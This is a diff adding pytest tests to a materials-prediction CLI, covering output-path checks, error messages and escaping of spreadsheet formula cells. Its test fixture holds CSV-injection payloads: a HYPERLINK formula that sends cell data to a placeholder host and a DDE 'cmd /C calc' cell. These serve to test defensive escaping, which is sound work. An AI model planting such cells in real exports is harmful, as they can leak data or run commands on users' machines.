@@ -319,3 +319,162 @@ def test_an_unreachable_server_is_status_2_after_retries(
     status, _, log = _run(["predict", str(path), "--url", url, "--retries", "1"], model_dir, capsys)
     assert status == 2
     assert f"magorder: error: cannot reach {url}" in log
+
+
+@pytest.fixture
+def no_model_load(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Fail any test that gets as far as loading the model."""
+
+    def refuse(*_: object) -> None:
+        raise AssertionError("the model was loaded")
+
+    monkeypatch.setattr("app.cli.main._local_backend", refuse)
+
+
+def _one_error_line(log: str) -> str:
+    (line,) = log.splitlines()
+    assert line.startswith("magorder: error: ")
+    assert "partial" not in line  # never the hidden file written beside the output
+    return line
+
+
+def test_an_output_in_a_missing_directory_is_refused_before_the_model_loads(
+    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
+) -> None:
+    out = tmp_path / "nodir" / "out.csv"
+    path = _write(tmp_path, CANDIDATES)
+    status, _, log = _run(["predict", str(path), "-o", str(out)], model_dir, capsys)
+    assert status == 2
+    assert _one_error_line(log) == (
+        f"magorder: error: cannot write {out}: the directory {out.parent} does not exist"
+    )
+
+
+def test_an_output_that_is_a_directory_is_refused_before_the_model_loads(
+    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
+) -> None:
+    out = tmp_path / "results"
+    out.mkdir()
+    path = _write(tmp_path, CANDIDATES)
+    status, _, log = _run(["predict", str(path), "-o", str(out)], model_dir, capsys)
+    assert status == 2
+    assert _one_error_line(log) == (
+        f"magorder: error: the output {out} is a directory; give a file name in it"
+    )
+    assert out.is_dir()
+
+
+def test_a_read_only_output_is_refused_and_kept(
+    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
+) -> None:
+    out = tmp_path / "kept.csv"
+    out.write_text("an earlier result\n", encoding="utf-8")
+    out.chmod(0o444)
+    path = _write(tmp_path, CANDIDATES)
+    status, _, log = _run(["predict", str(path), "-o", str(out)], model_dir, capsys)
+    assert status == 2
+    assert _one_error_line(log) == (
+        f"magorder: error: the output {out} is read-only; make it writable, or write elsewhere"
+    )
+    assert out.read_text(encoding="utf-8") == "an earlier result\n"
+
+
+def test_an_output_that_is_a_symbolic_link_is_refused_and_the_link_kept(
+    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
+) -> None:
+    target = tmp_path / "target.csv"
+    target.write_text("an earlier result\n", encoding="utf-8")
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    path = _write(tmp_path, CANDIDATES)
+    status, _, log = _run(["predict", str(path), "-o", str(link)], model_dir, capsys)
+    assert status == 2
+    assert _one_error_line(log).startswith(
+        f"magorder: error: the output {link} is a symbolic link (to {target})"
+    )
+    assert link.is_symlink()
+    assert target.read_text(encoding="utf-8") == "an earlier result\n"
+
+
+FORMULA_CELLS = (
+    "id,formula,density,note,energy\n"
+    '"=HYPERLINK(""http://x.invalid/?a=""&A1,""x"")",NaCl,2.17,"+cmd|\' /C calc\'!A0",-1.5\n'
+    "@SUM(1),NiO,6.67,-x,+2e3\n"
+)
+
+
+def test_cells_a_spreadsheet_would_run_are_written_as_text(
+    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = _write(tmp_path, FORMULA_CELLS)
+    status, out, _ = _run(["predict", str(path), "-q"], model_dir, capsys)
+    assert status == 0
+    rows = _rows(out)
+    assert [r["id"] for r in rows] == ['\'=HYPERLINK("http://x.invalid/?a="&A1,"x")', "'@SUM(1)"]
+    assert [r["note"] for r in rows] == ["'+cmd|' /C calc'!A0", "'-x"]
+    assert [r["energy"] for r in rows] == ["-1.5", "+2e3"]  # numbers stay numbers
+    assert all(float(r[f"p_{c}"]) >= 0 for r in rows for c in ("FM", "NM", "FiM", "AFM"))
+    # A pipeline that wants the cells as they were asks for them.
+    status, raw, _ = _run(["predict", str(path), "-q", "--no-escape-formulas"], model_dir, capsys)
+    assert status == 0
+    assert [r["id"] for r in _rows(raw)] == ['=HYPERLINK("http://x.invalid/?a="&A1,"x")', "@SUM(1)"]
+    assert [r["note"] for r in _rows(raw)] == ["+cmd|' /C calc'!A0", "-x"]
+
+
+def test_a_structure_file_name_that_looks_like_a_formula_is_written_as_text(
+    tmp_path: Path,
+    model_dir: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    (tmp_path / "=cmd.cif").write_text("data_junk\n", encoding="utf-8")
+    monkeypatch.chdir(tmp_path)
+    status, out, _ = _run(["predict", "=cmd.cif", "-q"], model_dir, capsys)
+    assert status == 1
+    (row,) = _rows(out)
+    assert row["file"] == "'=cmd.cif"
+
+
+# Full-width 6; Arabic-Indic 6.67; 6.6 and a full-width 7.
+@pytest.mark.parametrize("density", ["\uff16", "\u0666.\u0666\u0667", "6.6\uff17"])
+def test_densities_in_non_ascii_digits_fail_their_row(
+    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], density: str
+) -> None:
+    path = _write(tmp_path, f"formula,density\nNiO,{density}\nNiO,6.67\n")
+    status, out, _ = _run(["predict", str(path), "-q"], model_dir, capsys)
+    assert status == 1
+    rows = _rows(out)
+    # float() reads each as a number; a JSON body could not hold it, so the row fails.
+    assert rows[0]["error"] == (
+        f"density {density!r} is not a number; write densities in ASCII digits, such as 6.67"
+    )
+    assert rows[0]["prediction"] == ""
+    assert rows[1]["error"] == ""
+
+
+@pytest.mark.parametrize("to_file", [True, False])
+def test_an_unexpected_failure_is_one_line_and_leaves_no_partial_output(
+    tmp_path: Path,
+    model_dir: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+    to_file: bool,
+) -> None:
+    from app.client.backends import LocalBackend
+
+    def explode(*_: object) -> None:
+        raise KeyError("a parser raising what it should not")
+
+    monkeypatch.setattr(LocalBackend, "predict", explode)
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "NiO.cif").write_text("data_NiO\n", encoding="utf-8")
+    out = tmp_path / "out.csv"
+    flags = ["-o", str(out)] if to_file else []
+    status, _, log = _run(["predict", str(folder), *flags], model_dir, capsys)
+    assert status == 2
+    assert _one_error_line(log) == (
+        "magorder: error: the run stopped on an unexpected KeyError: 'a parser raising what it "
+        "should not' (please report it)"
+    )
+    assert [p.name for p in tmp_path.iterdir()] == ["in"]  # no output, whole or partial
